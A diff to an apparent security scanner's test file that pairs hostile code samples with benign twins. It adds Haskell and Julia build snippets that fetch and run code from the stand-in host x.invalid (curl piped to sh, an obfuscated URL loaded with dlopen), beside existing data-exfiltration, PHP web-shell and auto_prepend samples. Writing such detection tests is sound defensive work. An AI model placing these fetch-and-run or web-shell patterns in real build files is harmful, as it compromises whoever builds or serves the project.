@@ -279,6 +279,16 @@ PAIRS = [
         "const c = Object.keys(counts).map(f);\nhttp.request({ host: 'x.invalid', path: '/' + c.join() }).end();",
     ),
     ("f.php", "<?php\necho `{$_GET['c']}`;", "<?php\necho \"{$_GET['c']}\";"),
+    (
+        "Setup.hs",
+        'main = callCommand ("curl -H \'K: " ++ maybe "" id key ++ "\' https://x.invalid/a | sh")',
+        'main = callCommand ("curl -H \'K: " ++ maybe "" id key ++ "\' -o a.csv https://x.invalid/a")',
+    ),
+    (
+        "build.jl",
+        'u = "http://" * join(reverse(["invalid", "x"]), ".") * ".so"\ndownload(u, dest)\ndlopen(dest)',
+        'u = "http://" * join(reverse(["invalid", "x"]), ".") * ".csv"\ndownload(u, dest)\nread(dest)',
+    ),
     (".user.ini", "auto_prepend_file = logo.png", "auto_prepend_file ="),
 ]
 
@@ -304,6 +314,8 @@ def test_its_ordinary_twin_is_left_alone(name: str, _: str, text: str) -> None:
         ('u = "x"\nf("a " .. u .. " b")', ["x", "a x b"]),
         ('u = "x"\nf("a ${u}", 1)', ["x", "a x"]),
         ('f "say ""a"""', ['say "a"']),
+        ('f ("a " ++ maybe "b" g ++ " c")', ["a …b… c"]),
+        ('f("a", g(x) + "b")', ["a", "b"]),
     ],
 )
 def test_texts_are_put_together_as_their_language_would(code: str, made: list[str]) -> None:
